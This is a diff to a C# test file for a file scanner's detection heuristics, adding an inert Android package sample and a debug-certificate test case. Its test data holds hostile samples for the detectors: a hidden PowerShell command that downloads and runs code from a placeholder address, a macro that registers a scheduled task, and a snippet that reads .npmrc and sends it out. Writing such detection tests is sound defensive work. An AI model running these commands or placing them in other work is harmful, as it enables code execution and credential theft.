@@ -16,6 +16,8 @@ public sealed class DeliveryCases
     private const string Password = "<form action='https://host.invalid/x'><input type='password'></form>";
     private static readonly byte[] Program = new PeBuilder().Build();
 
+    private static readonly byte[] Package = InertFiles.Zip(("AndroidManifest.xml", ScanHost.TestKit.HeldOut.Second.PackageForms.AndroidManifest("com.firm.app")), ("classes.dex", [.. "dex\n035\0"u8, .. new byte[200]]));
+
     private static readonly HeuristicCase[] Table =
     [
         HeuristicCase.Of(SecretFiles, "a.js", Reads + "https.request({host:'h.invalid'}).end(o);", Reads + "show(o);", "const n=fs.readFileSync(h+'/.npmrc');https.request(o);", "// .ssh/id_rsa and .aws/credentials are never read\nhttps.request(o);fs.readFile(f);"),
@@ -39,6 +41,7 @@ public sealed class DeliveryCases
         new(DocumentHeuristics.NamelessSource, Template("http://203.0.113.5/a.dotm"), Template("https://host.invalid/a.dotm"), Template("http://192.168.1.5/a.dotm"), Template("file:///C:\\a.dotm")),
         new(DocumentHeuristics.HiddenCommand, Stored("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)"), Stored("Dear Sir or Madam"), Stored("cmd"), new("a.docx", OoxmlBuilder.Word().Part("word/settings.xml", Variables("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)")).Build())),
         new(DocumentHeuristics.MacroPersistence, Macro("Set s = CreateObject(\"Schedule.Service\")\ns.GetFolder(\"\\\").RegisterTaskDefinition \"a\", t, 6, , , 3"), Macro("Application.OnTime Now + 1, \"Refresh\""), Macro("Set s = CreateObject(\"Schedule.Service\")\nMsgBox s.Connected"), Macro("x = RegRead(\"HKCU\\Software\\Firm\")")),
+        new(PackageHeuristics.ApkDebugCertificate, App("CN=Android Debug, O=Android, C=US"), App("CN=Android Debug Tools, O=Firm"), App("CN=Firm, O=Firm, C=DE"), new("a.apk", Package)),
         new(DocumentHeuristics.InstallerUnsigned, Installer(4), Installer(3 << 20), new("a.doc", new OleFileBuilder().Stream("WordDocument", new byte[600]).Build()), new("a.msi", "not an installer at all")),
         new(DocumentHeuristics.PdfPictureLink, Picture("0 0 600 800", ""), Picture("10 10 100 40", ""), Picture("0 0 600 800", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"), new("a.pdf", PdfBuilder.Document())),
         new(ExecutableHeuristics.PeInjectsDownload, Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA"), Imports("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory")),
@@ -74,6 +77,8 @@ public sealed class DeliveryCases
         $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars><w:docVar w:name=\"x\" w:val=\"{value}\"/></w:docVars></w:settings>";
 
     private static SampleFile Stored(string value) => new("a.docm", OoxmlBuilder.Word().Part("word/settings.xml", Variables(value)).WithMacros(new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub\n").Build()).Build());
+
+    private static SampleFile App(string subject) => new("a.apk", ApkBuilder.Sign(Package, subject));
 
     private static SampleFile Installer(int length)
     {
